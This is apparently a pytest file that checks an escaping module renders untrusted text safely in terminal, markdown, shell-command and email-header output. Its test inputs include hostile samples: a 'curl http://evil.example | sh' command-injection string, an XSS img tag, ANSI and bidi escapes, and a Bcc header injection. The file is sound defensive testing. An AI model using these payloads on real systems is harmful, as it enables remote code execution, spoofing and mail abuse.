"""Untrusted text is rendered as data in every medium: console, markdown, shell, email."""

from __future__ import annotations

import io
import shlex

import pytest
from rich.console import Console

from supportgraph.tools.safety import escape


def _printed(markup: str) -> str:
    out = io.StringIO()
    Console(file=out, width=200, emoji=False, force_terminal=True, color_system=None).print(markup)
    return out.getvalue()


def test_rich_markup_in_a_value_prints_literally() -> None:
    value = "[link=http://evil.example]click[/link] [/] [bold]x"
    assert _printed(escape.console(value)).strip() == value


def test_ansi_escapes_and_bidi_overrides_never_reach_the_terminal() -> None:
    value = "\x1b[31mRED\x1b[0m \x1b]8;;http://evil\x07link\x1b]8;;\x07 \u202eabc \x07"
    shown = _printed(escape.console(value))
    assert "\x1b" not in shown and "\u202e" not in shown and "\x07" not in shown
    assert shown.strip() == "RED link abc"


def test_long_values_are_cut_for_display() -> None:
    shown = escape.console("x" * 1_000_000)
    assert len(shown) == escape.DISPLAY_CHARS and shown.endswith("…")
    assert len(escape.console("x" * 1_000_000, limit=40)) == 40


def test_unpaired_surrogates_print_as_replacement_characters() -> None:
    assert escape.console("a\ud800b") == "a\ufffdb"


def _unescaped(text: str) -> list[str]:
    """Markdown-active characters not preceded by a backslash escape."""
    found, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        if text[i] in "|`*[]<>#_":
            found.append(text[i])
        i += 1
    return found


@pytest.mark.parametrize(
    "value",
    [
        "a | b",
        "line\n# Injected heading",
        "[click](http://evil.example)",
        "<img src=x onerror=alert(1)>",
        "`code` and **bold**",
        "back\\|slash",
        "- item",
        "1. item",
        "> quote",
    ],
    ids=[
        "pipe",
        "newline-heading",
        "link",
        "html",
        "code",
        "backslash-pipe",
        "dash",
        "ordered",
        "quote",
    ],
)
def test_markdown_text_cannot_change_the_layout(value: str) -> None:
    text = escape.markdown(value)
    assert "\n" not in text
    assert _unescaped(text) == [], text
    assert text[0] not in "->" and not text[:2].rstrip(".").isdigit()


def test_markdown_table_cell_keeps_one_cell() -> None:
    row = f"| {escape.markdown('a|b|c')} | next |"
    # A markdown reader splits cells on pipes not preceded by a backslash.
    cells = [c for c in __import__("re").split(r"(?<!\\)\|", row) if c.strip()]
    assert len(cells) == 2


def test_shell_command_to_copy_quotes_every_argument() -> None:
    line = escape.review_command("approve", "T6; curl http://evil.example | sh")
    assert line == "supportgraph review approve 'T6; curl http://evil.example | sh'"
    assert shlex.split(line)[-1] == "T6; curl http://evil.example | sh"


def test_review_command_keeps_option_like_ids_positional() -> None:
    line = escape.review_command("approve", "-rf", tenant="acme corp")
    assert shlex.split(line) == [
        "supportgraph",
        "review",
        "approve",
        "--tenant",
        "acme corp",
        "--",
        "-rf",
    ]


def test_code_span_survives_backticks() -> None:
    assert escape.markdown_code("a`b") == "`` a`b ``"
    assert escape.markdown_code("plain") == "`plain`"


def test_email_header_is_one_bounded_line() -> None:
    value = escape.header("Hello\r\nBcc: victim@example.com\x00" + "x" * 10_000)
    assert "\r" not in value and "\n" not in value and "\x00" not in value
    assert len(value) == escape.HEADER_CHARS and value.startswith("Hello Bcc: victim@example.com")
